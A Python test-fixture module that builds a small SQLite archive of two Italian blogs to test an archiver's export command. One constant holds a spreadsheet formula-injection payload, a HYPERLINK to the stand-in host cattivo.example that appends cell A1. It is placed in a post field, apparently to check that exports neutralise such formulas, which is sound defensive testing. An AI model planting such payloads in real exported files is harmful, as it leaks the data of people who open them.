"""A small archive to export, and the command that does it, in this process."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from sqlite_utils.db import Database

from archiver.archive.schema import open_database
from archiver.archive.search import stems
from archiver.cli import main

ALBA, BORA = "1111", "2222"
FORMULA = '=HYPERLINK("https://cattivo.example/"&A1,"gratis")'


@dataclass(frozen=True)
class Ended:
    """How a command ended."""

    code: int
    out: str
    err: str

    @property
    def json(self) -> Any:
        """What it printed with ``--json``."""
        return json.loads(self.out)


def export(*arguments: object, archive: Path | None = None) -> Ended:
    """``archiver export``."""
    where = ["--archive", str(archive)] if archive is not None else []
    done = CliRunner().invoke(main, ["export", *map(str, arguments), *where])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    assert "a fault of ours" not in done.stderr, done.stderr
    return Ended(done.exit_code, done.stdout, done.stderr)


def put(db: Database, table: str, *rows: dict[str, Any]) -> None:
    """Add rows, each with its own columns."""
    for row in rows:
        db.table(table).insert(row)


def post(db: Database, post_id: str, date: str | None = None, *, blog: str = ALBA, **columns: Any) -> None:
    """Add a post."""
    texts = " ".join(columns.get(name) or "" for name in ("title", "body_text", "captions"))
    url = f"https://{'alba.blogspot.com' if blog == ALBA else 'www.bora.example'}/2024/12/{post_id}.html"
    row = {"post_id": post_id, "blog_id": blog, "url": url, "stems": stems(texts) or None}
    dated = {"published": date, "published_date": date, "published_precision": date and "day"}
    db.table("posts").insert({**row, **dated, **columns})


def label(db: Database, name: str, *posts: str, blog: str = ALBA) -> None:
    """Put a label on posts."""
    put(db, "labels", {"label_id": f"{blog}/{name}", "blog_id": blog, "name": name})
    put(db, "post_labels", *({"post_id": one, "label_id": f"{blog}/{name}"} for one in posts))


def make_archive(path: Path) -> Path:
    """An archive of two blogs, with one post that has all there is."""
    path.mkdir(parents=True)
    (path / "warc").mkdir()
    with open_database(path / "archive.db", create=True) as db:
        put(
            db,
            "blogs",
            {"blog_id": ALBA, "host": "alba.blogspot.com", "url": "https://alba.blogspot.com/", "title": "Alba"},
            {"blog_id": BORA, "host": "www.bora.example", "url": "https://www.bora.example/", "title": "Bora"},
        )
        put(db, "crawls", {"crawl_id": "c1", "blog_id": ALBA, "started_at": "2026-01-01T00:00:00Z"})
        put(
            db,
            "captures",
            {"capture_id": "k1", "crawl_id": "c1", "url": "https://alba.blogspot.com/2024/12/uno.html", "kind": "post",
             "fetched_at": "2026-01-01T00:00:01Z"},
        )  # fmt: skip
        post(
            db, "uno", "2024-12-01", title="Il vertice di Astana", author="Livia", deck=FORMULA, capture_id="k1",
            body_text="Le relazioni tra i due paesi.\n\nFu detto “perché no”.", body_html="<p>Le <b>relazioni</b></p>",
            published="2024-12-01T10:22:00+01:00", published_utc="2024-12-01T09:22:00Z", published_precision="second",
            word_count=9, captions="La sala grande. Agenzia Lanterna", comments_held=1,
            last_seen_at="2026-01-01T00:00:01Z",
        )  # fmt: skip
        post(db, "due", "2024-12-31", title="+39 vini, =2 bianchi", body_text='Testo, con virgola; e "virgolette".')
        post(
            db, "tre", "2025-01-01", title="Torta di mele", body_text="La relazione annuale AND la torta.", truncated=0
        )
        post(db, "pagina", None, title="Chi siamo", kind="page")
        post(db, "quattro", "1899-05-06", blog=BORA, title="Il diario del nonno", body_text="Vento 😀 di bora.")
        label(db, "Astana", "uno", "due")
        label(db, "Ricette", "tre")
        label(db, "Astana", "quattro", blog=BORA)
        put(
            db,
            "blocks",
            {"post_id": "uno", "position": 1, "kind": "paragraph", "text": "Le relazioni tra i due paesi."},
            {"post_id": "uno", "position": 2, "kind": "paragraph", "text": "Fu detto “perché no”."},
            {"post_id": "quattro", "position": 1, "kind": "paragraph", "text": "Vento 😀 di bora."},
        )
        put(
            db,
            "credits",
            {"post_id": "uno", "position": 1, "name": "Farhad Ibragimov", "kind": "author", "role": "esperto"},
            {"post_id": "uno", "position": 2, "name": "Nadia Ferri", "kind": "translator"},
            {"post_id": "uno", "position": 3, "name": "Ugo Serra", "kind": "photographer"},
        )
        put(
            db,
            "images",
            {"post_id": "uno", "position": 1, "url": "https://img.example/s320/a.jpg", "caption": "La sala grande.",
             "original_url": "https://img.example/s0/a.jpg", "caption_credit": "Agenzia Lanterna"},
            {"post_id": "uno", "position": 2, "url": "https://img.example/s320/b.jpg"},
        )  # fmt: skip
        put(
            db,
            "links",
            {"post_id": "uno", "position": 1, "url": "https://giornale.example/1", "text": "qui", "kind": "external"},
            {"post_id": "uno", "position": 2, "url": "https://img.example/s0/a.jpg", "kind": "image"},
        )
        put(
            db,
            "comments",
            {"comment_id": "900000001", "post_id": "uno", "position": 1, "author": "Mario Neri", "body_text": "Bello!",
             "is_blog_author": 0, "deleted": 0},
        )  # fmt: skip
        put(db, "post_scopes", {"post_id": "uno", "scope": "blog", "crawl_id": "c1"})
        put(db, "skips", {"crawl_id": "c1", "url": "https://alba.blogspot.com/x", "reason": "http_404"})
        put(
            db,
            "post_versions",
            {"post_id": "uno", "version": 1, "seen_at": "2026-01-01T00:00:01Z", "changed": "[]", "body_text": "Le …"},
        )
        put(
            db,
            "corrections",
            {
                "post_id": "tre",
                "field": "title",
                "at": "2026-02-01T00:00:00Z",
                "value": "Torta di pere",
                "note": "letto",
            },
        )
    return path
